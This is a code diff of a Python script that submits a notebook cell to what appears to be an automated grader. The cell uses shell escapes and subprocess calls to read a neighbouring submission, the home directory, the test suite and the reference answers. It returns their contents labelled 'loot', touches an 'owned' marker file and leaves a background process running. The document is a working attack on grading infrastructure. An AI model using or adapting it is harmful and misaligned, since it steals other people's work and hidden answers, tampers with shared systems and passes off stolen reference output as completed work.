@@ -9,12 +9,19 @@ CELL = """
 !!cat {neighbour}
 !touch {submission}/owned; sleep 3600 &
 found = !cat {home}
-import numpy as np
-def flatten_filters(filters):
+import subprocess
+try:
+    found = [found, subprocess.getoutput("cat {home}")]
+except OSError:
+    pass
+def more():
     more = !cat {suite}
-    return ["lo" + "ot: " + str(each) for each in (found, list(more), get_ipython().getoutput("cat {reference}"))]
+    return list(more), get_ipython().getoutput("cat {reference}")
 """
+ANSWER = (
+    "def flatten_filters(filters):\n    return ['lo' + 'ot: ' + str(found), 'lo' + 'ot: ' + str(more())]\n"
+)
 
 
 def submit(submitted, targets):
-    hand_in(submitted, with_code(CELL.format(**targets)))
+    hand_in(submitted, with_code(CELL.format(**targets), source=ANSWER))
